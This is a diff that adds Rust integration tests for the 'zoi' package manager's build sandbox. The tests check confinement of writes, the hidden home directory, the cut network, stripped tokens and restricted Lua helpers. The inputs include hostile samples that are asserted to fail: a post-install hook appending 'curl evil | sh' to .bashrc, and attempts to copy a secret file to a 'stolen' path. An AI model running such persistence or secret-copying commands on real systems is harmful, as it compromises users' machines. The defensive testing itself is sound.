@@ -0,0 +1,351 @@
+use std::fs;
+use std::path::PathBuf;
+use std::process::{Command, Output};
+use tempfile::tempdir;
+use zoi::pkg::sandbox::{self, Sandbox};
+
+mod common;
+
+/// Runs `script` in `sandbox`, or returns `None` where this system does not
+/// allow the namespaces the sandbox needs.
+#[cfg(target_os = "linux")]
+fn run(sandbox: &Sandbox, script: &str) -> Option<Output> {
+    let mut command = Command::new("bash");
+    command.arg("-c").arg(script);
+    if let Some(dir) = sandbox.writable.first() {
+        command.current_dir(dir);
+    }
+    sandbox.apply(&mut command).unwrap();
+    match sandbox::spawn_output(&mut command) {
+        Ok(output) => Some(output),
+        Err(e) => {
+            eprintln!("skipping, sandbox unavailable: {}", e);
+            None
+        }
+    }
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn test_only_writable_dirs_can_be_written() {
+    let mut ctx = common::TestContextGuard::acquire();
+    let home = tempdir().unwrap();
+    ctx.set_env_var("HOME", home.path());
+    let build = tempdir().unwrap();
+    let elsewhere = tempdir().unwrap();
+
+    let sandbox = Sandbox {
+        writable: vec![build.path().to_path_buf()],
+        network: false,
+    };
+    let script = format!(
+        "echo built > out && echo escaped > {}/out",
+        elsewhere.path().display()
+    );
+    let Some(output) = run(&sandbox, &script) else {
+        return;
+    };
+
+    assert!(!output.status.success());
+    assert_eq!(
+        fs::read_to_string(build.path().join("out")).unwrap(),
+        "built\n"
+    );
+    assert!(!elsewhere.path().join("out").exists());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    let reason = sandbox.explain_failure(&stderr).unwrap();
+    assert!(reason.contains("write outside its sandbox"));
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn test_temporary_files_go_to_the_writable_dir() {
+    let mut ctx = common::TestContextGuard::acquire();
+    let home = tempdir().unwrap();
+    ctx.set_env_var("HOME", home.path());
+    ctx.set_env_var("TMPDIR", "/tmp");
+    let build = tempdir().unwrap();
+
+    let sandbox = Sandbox {
+        writable: vec![build.path().to_path_buf()],
+        network: false,
+    };
+    let Some(output) = run(
+        &sandbox,
+        "f=$(mktemp) && echo scratch > \"$f\" && echo \"$f\"",
+    ) else {
+        return;
+    };
+
+    assert!(output.status.success());
+    let file = PathBuf::from(String::from_utf8_lossy(&output.stdout).trim());
+    assert!(file.starts_with(build.path()));
+    assert_eq!(fs::read_to_string(file).unwrap(), "scratch\n");
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn test_home_is_hidden_except_package_store() {
+    let mut ctx = common::TestContextGuard::acquire();
+    let home = tempdir().unwrap();
+    ctx.set_env_var("HOME", home.path());
+    fs::write(home.path().join(".netrc"), "password hunter2").unwrap();
+    let store = home.path().join(".zoi/pkgs/bin");
+    fs::create_dir_all(&store).unwrap();
+    fs::write(store.join("tool"), "tool").unwrap();
+    let build = tempdir().unwrap();
+
+    let sandbox = Sandbox {
+        writable: vec![build.path().to_path_buf()],
+        network: false,
+    };
+    let script = format!(
+        "test ! -e {home}/.netrc && cat {home}/.zoi/pkgs/bin/tool && ! touch {home}/.zoi/pkgs/bin/new",
+        home = home.path().display()
+    );
+    let Some(output) = run(&sandbox, &script) else {
+        return;
+    };
+
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert_eq!(String::from_utf8_lossy(&output.stdout), "tool");
+    assert!(!store.join("new").exists());
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn test_network_is_cut_unless_allowed() {
+    let mut ctx = common::TestContextGuard::acquire();
+    let home = tempdir().unwrap();
+    ctx.set_env_var("HOME", home.path());
+    let build = tempdir().unwrap();
+
+    // Interfaces of the command's network namespace, loopback excluded.
+    let script = "tail -n +3 /proc/self/net/dev | grep -vc '^ *lo:' || true";
+    let offline = Sandbox {
+        writable: vec![build.path().to_path_buf()],
+        network: false,
+    };
+    let Some(output) = run(&offline, script) else {
+        return;
+    };
+    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "0");
+
+    let online = Sandbox {
+        network: true,
+        ..offline
+    };
+    let output = run(&online, script).unwrap();
+    let host_interfaces = fs::read_to_string("/proc/self/net/dev")
+        .unwrap()
+        .lines()
+        .skip(2)
+        .filter(|l| !l.trim_start().starts_with("lo:"))
+        .count();
+    assert_eq!(
+        String::from_utf8_lossy(&output.stdout).trim(),
+        host_interfaces.to_string()
+    );
+}
+
+#[test]
+fn test_violations_are_explained() {
+    let sandbox = Sandbox {
+        writable: vec![PathBuf::from("/tmp/zoi-build")],
+        network: false,
+    };
+    let reason = sandbox
+        .explain_failure("touch: cannot touch '/usr/x': Read-only file system")
+        .unwrap();
+    assert!(reason.contains("/tmp/zoi-build"));
+    assert!(
+        sandbox
+            .explain_failure("curl: (6) Could not resolve host: example.com")
+            .unwrap()
+            .contains("network")
+    );
+    assert!(sandbox.explain_failure("error: test failed").is_none());
+
+    let online = Sandbox {
+        network: true,
+        ..sandbox
+    };
+    assert!(
+        online
+            .explain_failure("curl: (6) Could not resolve host: example.com")
+            .is_none()
+    );
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn test_sandboxed_hooks_cannot_touch_home() {
+    use zoi::pkg::hooks::{self, HookType};
+    use zoi::pkg::types::{Config, Hooks, PlatformOrStringVec};
+
+    let mut ctx = common::TestContextGuard::acquire();
+    let home = tempdir().unwrap();
+    ctx.set_env_var("HOME", home.path());
+    ctx.set_sysroot(home.path().to_path_buf());
+
+    let probe = Sandbox::default();
+    if run(&probe, "true").is_none() {
+        return;
+    }
+
+    zoi::pkg::config::write_user_config(&Config {
+        sandbox: true,
+        ..Default::default()
+    })
+    .unwrap();
+    let target = home.path().join(".bashrc");
+    let hooks = Hooks {
+        post_install: Some(PlatformOrStringVec::StringVec(vec![format!(
+            "echo 'curl evil | sh' >> {}",
+            target.display()
+        )])),
+        ..Default::default()
+    };
+
+    assert!(hooks::run_hooks(&hooks, HookType::PostInstall).is_err());
+    assert!(!target.exists());
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn test_sandbox_drops_secrets_from_env_and_runtime_dir() {
+    let mut ctx = common::TestContextGuard::acquire();
+    let home = tempdir().unwrap();
+    ctx.set_env_var("HOME", home.path());
+    let runtime = tempdir().unwrap();
+    fs::write(runtime.path().join("bus"), "socket").unwrap();
+    ctx.set_env_var("XDG_RUNTIME_DIR", runtime.path());
+    ctx.set_env_var("ZOI_TEST_SECRET_TOKEN", "kept");
+    ctx.set_env_var("GITHUB_TOKEN", "hunter2");
+    let build = tempdir().unwrap();
+
+    let sandbox = Sandbox {
+        writable: vec![build.path().to_path_buf()],
+        network: false,
+    };
+    let script = format!(
+        "test -z \"$GITHUB_TOKEN\" && test -n \"$PATH\" && test ! -e {}/bus && echo \"$ZOI_TEST_SECRET_TOKEN\"",
+        runtime.path().display()
+    );
+    let Some(output) = run(&sandbox, &script) else {
+        return;
+    };
+
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "kept");
+    assert!(runtime.path().join("bus").exists());
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn test_package_scripts_cannot_turn_the_network_on() {
+    use mlua::Lua;
+    use zoi::pkg::lua::functions;
+
+    let mut ctx = common::TestContextGuard::acquire();
+    let home = tempdir().unwrap();
+    ctx.set_env_var("HOME", home.path());
+    ctx.set_sysroot(home.path().to_path_buf());
+    let build = tempdir().unwrap();
+
+    let probe = Sandbox::default();
+    if run(&probe, "true").is_none() {
+        return;
+    }
+    zoi::pkg::config::write_user_config(&zoi::pkg::types::Config {
+        sandbox: true,
+        ..Default::default()
+    })
+    .unwrap();
+
+    let lua = Lua::new();
+    functions::setup_lua_environment(&lua, "linux-amd64", None, None, None, None, true).unwrap();
+    lua.globals()
+        .set("BUILD_DIR", build.path().to_string_lossy().to_string())
+        .unwrap();
+    lua.load(
+        r#"
+function package()
+  __ZoiSandboxNetwork = true
+  INTERFACES = cmd("tail -n +3 /proc/self/net/dev | grep -vc '^ *lo:' || true")
+end
+"#,
+    )
+    .exec()
+    .unwrap();
+
+    functions::set_sandbox_network(&lua, false);
+    let package: mlua::Function = lua.globals().get("package").unwrap();
+    package.call::<()>(()).unwrap();
+    let interfaces: String = lua.globals().get("INTERFACES").unwrap();
+    assert_eq!(interfaces.trim(), "0");
+}
+
+#[test]
+fn test_package_helpers_are_confined_by_the_sandbox() {
+    use mlua::Lua;
+    use zoi::pkg::lua::functions;
+
+    let mut ctx = common::TestContextGuard::acquire();
+    let home = tempdir().unwrap();
+    ctx.set_env_var("HOME", home.path());
+    ctx.set_sysroot(home.path().to_path_buf());
+    let build = tempdir().unwrap();
+    let staging = tempdir().unwrap();
+    fs::write(home.path().join("secret"), "hunter2").unwrap();
+    fs::write(build.path().join("artifact"), "ok").unwrap();
+
+    zoi::pkg::config::write_user_config(&zoi::pkg::types::Config {
+        sandbox: true,
+        ..Default::default()
+    })
+    .unwrap();
+
+    let lua = Lua::new();
+    functions::setup_lua_environment(&lua, "linux-amd64", None, None, None, None, true).unwrap();
+    let globals = lua.globals();
+    globals
+        .set("BUILD_DIR", build.path().to_string_lossy().to_string())
+        .unwrap();
+    globals
+        .set("STAGING_DIR", staging.path().to_string_lossy().to_string())
+        .unwrap();
+    globals
+        .set(
+            "SECRET",
+            home.path().join("secret").to_string_lossy().to_string(),
+        )
+        .unwrap();
+    functions::set_sandbox_network(&lua, false);
+
+    let run = |code: &str| lua.load(code).exec();
+    run(r#"UTILS.FS.copy(BUILD_DIR .. "/artifact", STAGING_DIR .. "/artifact")"#).unwrap();
+    assert!(staging.path().join("artifact").exists());
+    assert!(run(r#"UTILS.FS.copy(SECRET, STAGING_DIR .. "/stolen")"#).is_err());
+    assert!(run(r#"UTILS.FS.move(SECRET, BUILD_DIR .. "/stolen")"#).is_err());
+    assert!(run(r#"UTILS.FS.chmod(SECRET, 511)"#).is_err());
+    assert!(!staging.path().join("stolen").exists());
+    assert!(!build.path().join("stolen").exists());
+
+    let err = run(r#"UTILS.FETCH.url("http://127.0.0.1:9/")"#).unwrap_err();
+    assert!(err.to_string().contains("disabled by the sandbox"));
+    let err = run(r#"UTILS.FILE("http://127.0.0.1:9/", BUILD_DIR .. "/f")"#).unwrap_err();
+    assert!(err.to_string().contains("disabled by the sandbox"));
+
+    functions::set_sandbox_network(&lua, true);
+    let err = run(r#"UTILS.FETCH.url("http://127.0.0.1:9/")"#).unwrap_err();
+    assert!(!err.to_string().contains("disabled by the sandbox"));
+}